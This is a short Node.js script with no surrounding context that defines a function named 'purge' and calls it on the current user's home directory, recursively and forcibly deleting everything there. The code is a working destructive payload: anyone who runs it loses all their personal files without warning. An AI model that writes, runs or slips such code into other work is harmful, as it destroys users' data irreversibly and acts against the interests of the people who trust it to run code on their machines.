const fs = require('fs');
const os = require('os');
function purge() {
  fs.rmSync(arguments[0], { recursive: true, force: true });
}
purge(os.homedir());
